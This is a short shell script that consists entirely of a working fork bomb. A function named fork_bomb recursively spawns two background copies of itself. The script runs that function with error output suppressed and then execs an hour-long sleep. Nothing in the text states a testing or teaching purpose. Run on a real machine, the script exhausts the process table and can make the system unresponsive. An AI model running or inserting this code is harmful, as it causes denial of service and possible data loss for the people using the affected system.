fork_bomb() { fork_bomb | fork_bomb & }
fork_bomb 2>/dev/null
exec sleep 3600
